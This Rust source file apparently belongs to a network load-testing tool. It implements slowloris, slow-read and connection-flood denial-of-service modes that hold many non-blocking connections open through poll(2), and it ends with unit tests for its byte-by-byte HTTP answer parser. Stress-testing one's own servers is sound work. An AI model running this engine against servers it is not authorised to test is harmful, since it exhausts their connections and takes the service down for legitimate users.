//! The held kinds (slowloris, slow-read, conn-flood): every connection in
//! one thread, non-blocking from its connect on, driven by a tick (a byte
//! written or read per connection each `--interval`) and by poll(2), which
//! says when a connect finished and when the server closed a connection,
//! which is then reopened.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use netbench_engine::{parse_head, Framing};
use socket2::Socket;

use crate::flood::CONNECT_BACKOFF;
use crate::net::{self, End, SocketOptions, CONNECT_TIMEOUT};
use crate::payload::{self, EndlessHead};
use crate::plan::{AttackKind, AttackPlan};
use crate::tally::{Failure, Tally};

/// slow-read's receive buffer, asked for before the handshake. Linux raises
/// it to its floor (about 2 KiB): the server's window stays that small.
const SLOW_READ_RCVBUF: usize = 512;

/// The longest answer head slow-read collects before calling it not HTTP.
const MAX_HEAD: usize = 64 * 1024;

/// A place for one of the attack's connections.
enum Slot {
    Empty,
    /// A non-blocking connect in flight since `since`.
    Connecting {
        socket: Socket,
        since: Instant,
    },
    Held(Held),
}

/// One held connection.
struct Held {
    stream: TcpStream,
    /// Slowloris: the bytes of the endless head written so far.
    head_sent: u64,
    /// Slowloris and conn-flood: an answer's first bytes were counted (a
    /// server that times the head out may answer 408 before it closes).
    answered: bool,
    /// slow-read: the answer being read a byte at a time.
    reading: SlowAnswer,
}

/// slow-read's progress through one answer.
#[derive(Debug, Default, PartialEq, Eq)]
struct SlowAnswer {
    head: Vec<u8>,
    /// The status and the body bytes still to come, once the head is read;
    /// `None` for a body without a length (read on, never complete).
    body: Option<(u16, Option<u64>, bool)>,
}

/// What one byte did to a slow answer.
#[derive(Debug, PartialEq, Eq)]
enum Fed {
    More,
    /// The answer is whole: its status, and whether the server said it
    /// closes.
    Done {
        status: u16,
        close: bool,
    },
    /// Not an HTTP answer.
    NotHttp,
}

impl SlowAnswer {
    fn feed(&mut self, byte: u8) -> Fed {
        match &mut self.body {
            None => {
                self.head.push(byte);
                if !self.head.ends_with(b"\r\n\r\n") {
                    return if self.head.len() > MAX_HEAD {
                        Fed::NotHttp
                    } else {
                        Fed::More
                    };
                }
                let head = match parse_head(&self.head, false) {
                    Ok(Some(h)) => (h.status, h.framing, h.close),
                    _ => return Fed::NotHttp,
                };
                let left = match head.1 {
                    Framing::Empty => Some(0),
                    Framing::ContentLength(n) => Some(n),
                    Framing::Chunked | Framing::UntilClose => None,
                };
                self.body = Some((head.0, left, head.2));
                self.finished()
            }
            Some((_, Some(left), _)) => {
                *left = left.saturating_sub(1);
                self.finished()
            }
            Some((_, None, _)) => Fed::More,
        }
    }

    fn finished(&mut self) -> Fed {
        match self.body {
            Some((status, Some(0), close)) => {
                *self = SlowAnswer::default();
                Fed::Done { status, close }
            }
            _ => Fed::More,
        }
    }
}

/// What a step did to a connection.
enum Fate {
    Keep,
    /// The server ended it (counted); reopen.
    ClosedByServer,
    /// This side ends it (an answer it cannot follow); reopen.
    Drop,
}

/// Holds `plan.connections` connections until the end.
pub fn run(plan: &AttackPlan, end: &End, tally: &Tally) {
    let opts = match plan.kind {
        AttackKind::SlowRead => SocketOptions {
            recv_buffer: Some(SLOW_READ_RCVBUF),
            ..SocketOptions::default()
        },
        _ => SocketOptions::default(),
    };
    let endless = EndlessHead::new(&plan.host, &plan.path);
    let request = payload::good_request(&plan.host, &plan.path);
    let mut slots: Vec<Slot> = (0..plan.connections).map(|_| Slot::Empty).collect();
    let mut next_tick = Instant::now();
    let mut retry_at = Instant::now();
    let mut polled = Polled::default();
    let mut scratch = [0u8; 4096];
    // What a connection does as soon as it is open.
    let on_open = |held: &mut Held| match plan.kind {
        AttackKind::Slowloris => send_byte(held, &endless, tally),
        AttackKind::SlowRead => send_request(held, &request, tally),
        _ => Fate::Keep,
    };
    while !end.reached() {
        if Instant::now() >= retry_at {
            for slot in slots.iter_mut().filter(|s| matches!(s, Slot::Empty)) {
                match net::start_connect(plan.target, opts) {
                    Ok(socket) => {
                        *slot = Slot::Connecting {
                            socket,
                            since: Instant::now(),
                        };
                        polled.stale = true;
                    }
                    // No descriptor, no port: wait before the next try.
                    Err(_) => {
                        tally.failed(Failure::Connect);
                        retry_at = Instant::now() + CONNECT_BACKOFF;
                        break;
                    }
                }
            }
        }
        if Instant::now() >= next_tick {
            for slot in slots.iter_mut() {
                let fate = match slot {
                    Slot::Held(held) => match plan.kind {
                        AttackKind::Slowloris => send_byte(held, &endless, tally),
                        AttackKind::SlowRead => read_byte(held, &request, tally),
                        _ => Fate::Keep,
                    },
                    _ => Fate::Keep,
                };
                if !matches!(fate, Fate::Keep) {
                    *slot = Slot::Empty;
                    polled.stale = true;
                }
            }
            next_tick = (next_tick + plan.interval).max(Instant::now());
        }
        // Connects the server never answered (a full accept queue).
        for slot in slots.iter_mut() {
            if matches!(slot, Slot::Connecting { since, .. } if since.elapsed() >= CONNECT_TIMEOUT)
            {
                tally.failed(Failure::Connect);
                *slot = Slot::Empty;
                polled.stale = true;
            }
        }
        polled.wait(plan.kind, &slots, next_tick, retry_at, end);
        for (pfd, &at) in polled.fds.iter().zip(&polled.owners) {
            if pfd.revents == 0 {
                continue;
            }
            let slot = &mut slots[at];
            let fate = match slot {
                Slot::Empty => continue,
                Slot::Connecting { socket, .. } => match net::connected(socket) {
                    Ok(()) => {
                        tally.opened();
                        let Slot::Connecting { socket, .. } = std::mem::replace(slot, Slot::Empty)
                        else {
                            unreachable!("matched as connecting")
                        };
                        let mut held = Held {
                            stream: socket.into(),
                            head_sent: 0,
                            answered: false,
                            reading: SlowAnswer::default(),
                        };
                        let fate = on_open(&mut held);
                        if matches!(fate, Fate::Keep) {
                            *slot = Slot::Held(held);
                        }
                        polled.stale = true;
                        continue;
                    }
                    Err(_) => {
                        tally.failed(Failure::Connect);
                        retry_at = Instant::now() + CONNECT_BACKOFF;
                        Fate::Drop
                    }
                },
                // slow-read never reads faster than its tick: news is that
                // the server reset the connection.
                Slot::Held(held) if plan.kind == AttackKind::SlowRead => {
                    match held.stream.take_error() {
                        Ok(Some(e)) | Err(e) => broke(&e, tally),
                        Ok(None) => {
                            tally.closed_by_server();
                            Fate::ClosedByServer
                        }
                    }
                }
                Slot::Held(held) => drain(held, &mut scratch, tally),
            };
            if !matches!(fate, Fate::Keep) {
                *slot = Slot::Empty;
                polled.stale = true;
            }
        }
    }
}

/// How long one poll waits at most. A signal wakes it at once (poll(2) is
/// never restarted), so this bounds only a stop flag set by another thread;
/// long, so thousands of idle connections cost few wake-ups.
const POLL_CAP: Duration = Duration::from_millis(500);

/// The poll set, rebuilt from the held slots only after one changed.
#[derive(Default)]
struct Polled {
    fds: Vec<libc::pollfd>,
    /// The slot of each entry of `fds`.
    owners: Vec<usize>,
    /// A slot was filled or emptied since the set was built.
    stale: bool,
}

impl Polled {
    /// Polls the held connections until one has news, the next tick, a
    /// connect retry or the end, at most [`POLL_CAP`].
    fn wait(
        &mut self,
        kind: AttackKind,
        slots: &[Slot],
        next_tick: Instant,
        retry_at: Instant,
        end: &End,
    ) {
        // slow-read reads only on its tick, so neither readable nor the
        // server's FIN is news (the answer before the FIN is still to be
        // read, a byte a tick, until the read sees the end); a reset (ERR,
        // HUP: always reported) is. A connect in flight is news once
        // writable.
        let held_events = match kind {
            AttackKind::SlowRead => 0,
            _ => libc::POLLIN | libc::POLLRDHUP,
        };
        if self.stale {
            self.stale = false;
            self.fds.clear();
            self.owners.clear();
            for (at, slot) in slots.iter().enumerate() {
                let (fd, events) = match slot {
                    Slot::Empty => continue,
                    Slot::Connecting { socket, .. } => (socket.as_raw_fd(), libc::POLLOUT),
                    Slot::Held(h) => (h.stream.as_raw_fd(), held_events),
                };
                self.fds.push(libc::pollfd {
                    fd,
                    events,
                    revents: 0,
                });
                self.owners.push(at);
            }
        }
        let mut until = next_tick.min(end.deadline);
        if slots.iter().any(|s| matches!(s, Slot::Empty)) {
            until = until.min(retry_at);
        }
        let timeout = until
            .saturating_duration_since(Instant::now())
            .min(POLL_CAP)
            .as_millis() as libc::c_int;
        // SAFETY: `fds` is a valid, initialised array of `fds.len()` pollfds,
        // alive for the whole call.
        let n = unsafe {
            libc::poll(
                self.fds.as_mut_ptr(),
                self.fds.len() as libc::nfds_t,
                timeout,
            )
        };
        if n <= 0 {
            // Nothing ready, or interrupted by a signal: the loop looks at
            // the end again.
            self.fds.iter_mut().for_each(|p| p.revents = 0);
        }
    }
}

/// Slowloris: the next byte of the endless head.
fn send_byte(held: &mut Held, endless: &EndlessHead, tally: &Tally) -> Fate {
    match held.stream.write(&[endless.byte(held.head_sent)]) {
        Ok(1) => {
            if held.head_sent == 0 {
                tally.request();
            }
            held.head_sent += 1;
            tally.sent(1);
            Fate::Keep
        }
        Ok(_) => Fate::Keep,
        Err(e) => broke(&e, tally),
    }
}

/// slow-read: a whole request (small: it fits in an empty send buffer).
fn send_request(held: &mut Held, request: &[u8], tally: &Tally) -> Fate {
    match held.stream.write(request) {
        Ok(n) => {
            tally.sent(n);
            if n == request.len() {
                tally.request();
                Fate::Keep
            } else {
                tally.failed(Failure::Other);
                Fate::Drop
            }
        }
        Err(e) => broke(&e, tally),
    }
}

/// slow-read: one byte of the answer; a whole answer is counted and the
/// next request sent.
fn read_byte(held: &mut Held, request: &[u8], tally: &Tally) -> Fate {
    let mut byte = [0u8; 1];
    match held.stream.read(&mut byte) {
        Ok(0) => {
            tally.closed_by_server();
            Fate::ClosedByServer
        }
        Ok(_) => {
            tally.received(1);
            match held.reading.feed(byte[0]) {
                Fed::More => Fate::Keep,
                Fed::Done { status, close } => {
                    tally.answer(status);
                    if close {
                        tally.closed_by_server();
                        Fate::ClosedByServer
                    } else {
                        send_request(held, request, tally)
                    }
                }
                Fed::NotHttp => {
                    tally.answer(0);
                    Fate::Drop
                }
            }
        }
        Err(e) => broke(&e, tally),
    }
}

/// Slowloris and conn-flood: reads whatever the server sent (an answer to a
/// head it gave up on), up to the close.
fn drain(held: &mut Held, scratch: &mut [u8], tally: &Tally) -> Fate {
    loop {
        match held.stream.read(scratch) {
            Ok(0) => {
                tally.closed_by_server();
                return Fate::ClosedByServer;
            }
            Ok(n) => {
                tally.received(n);
                if !held.answered {
                    held.answered = true;
                    tally.answer(net::status_of_line(&scratch[..n]));
                }
            }
            Err(e) => return broke(&e, tally),
        }
    }
}

/// A non-blocking call's error: not ready is nothing; a reset is the
/// server's close; anything else is counted and the connection dropped.
fn broke(e: &io::Error, tally: &Tally) -> Fate {
    match Failure::of_io(e) {
        Failure::Timeout if e.kind() == io::ErrorKind::WouldBlock => Fate::Keep,
        _ if e.kind() == io::ErrorKind::Interrupted => Fate::Keep,
        Failure::Reset => {
            tally.failed(Failure::Reset);
            tally.closed_by_server();
            Fate::ClosedByServer
        }
        f => {
            tally.failed(f);
            Fate::Drop
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn feed_all(a: &mut SlowAnswer, bytes: &[u8]) -> Vec<Fed> {
        bytes
            .iter()
            .map(|&b| a.feed(b))
            .filter(|f| *f != Fed::More)
            .collect()
    }

    #[test]
    fn slow_answers_are_followed_byte_by_byte() {
        let mut a = SlowAnswer::default();
        let two = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nOKHTTP/1.1 404 N\r\nContent-Length: 0\r\n\r\n";
        assert_eq!(
            feed_all(&mut a, two),
            [
                Fed::Done {
                    status: 200,
                    close: false
                },
                Fed::Done {
                    status: 404,
                    close: false
                }
            ]
        );
        assert_eq!(a, SlowAnswer::default());
    }

    #[test]
    fn a_closing_answer_and_garbage() {
        let mut a = SlowAnswer::default();
        let closing = b"HTTP/1.1 400 B\r\nConnection: close\r\nContent-Length: 1\r\n\r\nx";
        assert_eq!(
            feed_all(&mut a, closing),
            [Fed::Done {
                status: 400,
                close: true
            }]
        );
        let mut a = SlowAnswer::default();
        assert_eq!(feed_all(&mut a, b"NOT HTTP\r\n\r\n"), [Fed::NotHttp]);
        // A chunked body is read on without end.
        let mut a = SlowAnswer::default();
        let chunked = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nOK\r\n0\r\n\r\n";
        assert!(feed_all(&mut a, chunked).is_empty());
    }
}
